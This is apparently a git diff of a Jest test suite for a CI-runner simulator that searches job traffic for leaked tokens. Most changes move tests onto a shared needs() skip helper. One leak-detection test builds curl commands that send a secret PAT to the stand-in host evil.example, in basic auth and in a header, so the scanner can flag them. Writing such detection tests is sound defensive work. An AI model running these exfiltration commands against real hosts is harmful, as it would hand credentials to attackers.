@@ -3,6 +3,7 @@ import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { setTimeout as sleep } from 'node:timers/promises'
 import { afterEach, describe, expect, it } from '@jest/globals'
+import { needs } from '../__tests__/support/needs.ts'
 import { dataResidency, enterprise, githubCom } from './github/servers.ts'
 import {
   appInstallation,
@@ -18,8 +19,8 @@ import { MEDIA, manifest, owner, pkg } from './github/world.ts'
 import { ask } from './network/client.ts'
 import type { Fault } from './network/faults.ts'
 import { evaluate, type Value } from './runner/expressions.ts'
-import { onMachine } from './runner/fake-engine.ts'
 import { formsOf } from './runner/leak-scan.ts'
+import { onMachine } from './runner/machine.ts'
 import type { JobOptions } from './runner/open-job.ts'
 import { openSimulator, type Simulator, type SimulatorOptions } from './simulator.ts'
 
@@ -431,7 +432,7 @@ describe('the proxy', () => {
     expect(simulator.requests('connect').map(({ status }) => status)).toEqual([200, 407])
   })
 
-  it('is not in the way of plain http on loopback', async () => {
+  needs('curl').it('is not in the way of plain http on loopback', async () => {
     const token = classicPat()
     const { simulator, job } = await simulate({ tokens: [token] }, { tools: ['curl'], secrets: { PAT: token } })
     const address = `http://${simulator.plainHost}/token?service=${simulator.plainHost}`
@@ -682,32 +683,35 @@ describe('the leak search', () => {
     await job.abandon()
   })
 
-  it('finds one sent to another host, to a proxy, over plain http or in an address, and not where it belongs', async () => {
-    const { simulator, job } = await simulate(
-      { tokens: [token], foreign: ['evil.example'] },
-      { tools: ['curl'], secrets: { PAT: token } }
-    )
-    // The script and curl's arguments are no part of what is searched: curl is not recorded.
-    const send = (what: string) =>
-      job.run(`curl -s --cacert $SSL_CERT_FILE ${what}`).catch((error: Error) => error.message)
-    const secret = `\${{ secrets.PAT }}`
-    expect(await send(`-u x:${secret} https://evil.example/`)).toMatch(/mine \(base64\) in a GET to evil.example/)
-    expect(await send(`-H 'X-Own: ${secret}' --proxy-header 'X-Own: ${secret}' https://evil.example/`)).toMatch(
-      /CONNECT to evil.example/
-    )
-    expect(await send(`-x $HTTP_PROXY -d ${secret} http://ghcr.io/token`)).toMatch(
-      /mine \(plain\) in a POST to ghcr.io/
-    )
-    expect(await send(`'https://ghcr.io/token?service=ghcr.io&account=${secret}'`)).toMatch(
-      /the address of a GET to ghcr.io/
-    )
-    expect(await send(`-u x:${secret} 'https://ghcr.io/token?service=ghcr.io' -o /dev/null`)).toMatchObject({
-      exitCode: 0
-    })
-    await expect(closing(simulator)).rejects.toThrow('anonymous /token')
-  })
+  needs('curl').it(
+    'finds one sent to another host, to a proxy, over plain http or in an address, and not where it belongs',
+    async () => {
+      const { simulator, job } = await simulate(
+        { tokens: [token], foreign: ['evil.example'] },
+        { tools: ['curl'], secrets: { PAT: token } }
+      )
+      // The script and curl's arguments are no part of what is searched: curl is not recorded.
+      const send = (what: string) =>
+        job.run(`curl -s --cacert $SSL_CERT_FILE ${what}`).catch((error: Error) => error.message)
+      const secret = `\${{ secrets.PAT }}`
+      expect(await send(`-u x:${secret} https://evil.example/`)).toMatch(/mine \(base64\) in a GET to evil.example/)
+      expect(await send(`-H 'X-Own: ${secret}' --proxy-header 'X-Own: ${secret}' https://evil.example/`)).toMatch(
+        /CONNECT to evil.example/
+      )
+      expect(await send(`-x $HTTP_PROXY -d ${secret} http://ghcr.io/token`)).toMatch(
+        /mine \(plain\) in a POST to ghcr.io/
+      )
+      expect(await send(`'https://ghcr.io/token?service=ghcr.io&account=${secret}'`)).toMatch(
+        /the address of a GET to ghcr.io/
+      )
+      expect(await send(`-u x:${secret} 'https://ghcr.io/token?service=ghcr.io' -o /dev/null`)).toMatchObject({
+        exitCode: 0
+      })
+      await expect(closing(simulator)).rejects.toThrow('anonymous /token')
+    }
+  )
 
-  it("finds another server's token sent to this one's registry", async () => {
+  needs('curl').it("finds another server's token sent to this one's registry", async () => {
     const foreign = classicPat({ server: 'https://ghe.example' })
     const { job } = await simulate(
       { tokens: [foreign], servers: [githubCom, enterprise('ghe.example')] },
@@ -738,17 +742,11 @@ describe('the leak search', () => {
 describe('engines', () => {
   const token = githubToken()
   const dead = classicPat({ name: 'dead', live: false })
-  const withEngine = (...names: string[]) => {
-    const missing = names.filter(name => !onMachine(name))
-    const skip = missing.length > 0
-    return (title: string, body: () => Promise<void>) =>
-      (skip ? it.skip : it)(skip ? `${title} (skipped: ${missing.join(', ')} not on PATH)` : title, body)
-  }
   const login = (engine: string) =>
     `printf %s "$PAT" | ${engine} login ghcr.io ${engine === 'podman' ? '--authfile $RUNNER_TEMP/auth.json' : ''} -u x --password-stdin`
 
   for (const engine of ['docker', 'podman']) {
-    withEngine(engine)(`${engine} itself logs in, is refused with a dead token, and is recorded`, async () => {
+    needs(engine).it(`${engine} itself logs in, is refused with a dead token, and is recorded`, async () => {
       const { simulator, job } = await simulate(
         { tokens: [token, dead] },
         { engines: [engine], leftovers: /(config|auth)\.json/ }
@@ -767,14 +765,14 @@ describe('engines', () => {
     })
   }
 
-  withEngine('docker')('docker stores through a credential helper, which is searched at the end', async () => {
+  needs('docker').it('docker stores through a credential helper, which is searched at the end', async () => {
     const files = { '.docker/config.json': '{"credsStore":"keys"}' }
     const { job } = await simulate({ tokens: [token] }, { engines: ['docker'], helpers: [{ name: 'keys' }], files })
     const step = await job.run(login('docker'), { env: { PAT: token.value } })
     expect(step.children.map(({ name, argv }) => `${name} ${argv[0]}`)).toContain('docker-credential-keys store')
     const got = await job.run(`echo ghcr.io | docker-credential-keys get | grep -c '"Username":"x"'`)
     expect(got.stdout).toBe('1\n')
-    await expect(job.end()).rejects.toThrow('the helper keys/store.json')
+    await expect(job.end()).rejects.toThrow('the helper keys/ghcr.io')
   })
 
   it('leads straight to an engine where recording is off', async () => {
@@ -792,9 +790,9 @@ describe('engines', () => {
 
   it('a fake fails as told, then works', async () => {
     const fake = { exitCode: 5, stderr: 'try again', times: 2 }
-    const { job } = await simulate({}, { engines: [{ name: 'nonesuch', fake }] })
-    const step = await job.run('for i in 1 2 3; do echo in | nonesuch login || echo "exit $?"; done')
-    expect(step).toMatchObject({ stdout: 'exit 5\nexit 5\n', stderr: 'try againtry again' })
+    const { job } = await simulate({}, { engines: [{ name: 'tee', fake }] })
+    const step = await job.run('for i in 1 2 3; do echo in | tee login || echo "exit $?"; done')
+    expect(step).toMatchObject({ stdout: 'exit 5\nexit 5\nin\n', stderr: 'try againtry again' })
     expect(step.children.map(({ stdinBytes }) => stdinBytes)).toEqual([3, 3, 3])
   })
 
@@ -819,11 +817,7 @@ describe('engines', () => {
     expect(await job.run('hangs', { timeoutMs: 300 })).toMatchObject({ signal: 'SIGKILL' })
   })
 
-  withEngine(
-    'buildah',
-    'skopeo',
-    'docker-registry'
-  )('what buildah pushes, skopeo reads', async () => {
+  needs('buildah', 'skopeo', 'docker-registry').it('what buildah pushes, skopeo reads', async () => {
     const { simulator, job } = await simulate(
       { tokens: [token], storage: true },
       { engines: ['buildah', 'skopeo'], leftovers: /auth\.json/, env: { BUILDAH_ISOLATION: 'chroot' } }
